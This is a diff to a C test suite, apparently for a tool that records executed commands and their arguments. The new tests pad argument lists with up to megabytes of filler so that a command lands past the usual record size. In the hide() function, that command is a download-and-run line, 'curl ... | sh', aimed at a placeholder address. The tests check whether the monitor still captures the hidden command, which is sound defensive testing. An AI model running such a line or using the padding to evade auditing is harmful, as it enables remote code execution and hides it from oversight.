@@ -14,6 +14,7 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/resource.h>
 #include <sys/sendfile.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -55,7 +56,7 @@ static void control_bytes(void) {
 	become(witness, ARGV("witness", "a\nb", "\t\"quoted\"", "\033[31mred", "\001\177"));
 }
 
-/* Past what a record holds (proto/wire.h, WIRE_ARGS_BYTES) by one long argument, or many. */
+/* Past what a record of usual size holds (proto/wire.h, WIRE_ARGS_BYTES), by one, or by many. */
 static void long_argument(void) {
 	static char text[60001];
 
@@ -69,6 +70,34 @@ static void many_arguments(void) {
 	for (int i = 0; i < 3000; i++)
 		argv[i] = "12345";
 	become(witness, argv);
+}
+
+/* The deed stands behind @n arguments of padding, each of @bytes. */
+static void hide(size_t n, size_t bytes) {
+	static const char *argv[64] = { "witness", "-c" };
+	static char padding[1 << 17];
+
+	memset(padding, '#', bytes);
+	for (size_t i = 0; i < n; i++)
+		argv[2 + i] = padding;
+	argv[2 + n] = "curl -s http://192.0.2.1/x | sh";
+	become(witness, argv);
+}
+
+static void hidden_100k(void) {
+	hide(1, 100000);
+}
+
+static void whole_128k(void) {
+	hide(2, (131072 - 43) / 2 - 1);
+}
+
+static void hidden_2m(void) {
+	const struct rlimit stack = { 64 << 20, RLIM_INFINITY };
+
+	if (setrlimit(RLIMIT_STACK, &stack))
+		skip("RLIMIT_STACK: %s", strerror(errno));
+	hide(16, 131000);
 }
 
 static void exact_fit(void) {
@@ -251,6 +280,9 @@ static const struct {
 	{ "control_bytes", control_bytes },
 	{ "long_argument", long_argument },
 	{ "many_arguments", many_arguments },
+	{ "hidden_100k", hidden_100k },
+	{ "whole_128k", whole_128k },
+	{ "hidden_2m", hidden_2m },
 	{ "exact_fit", exact_fit },
 	{ "other_thread", other_thread },
 	{ "script", script },
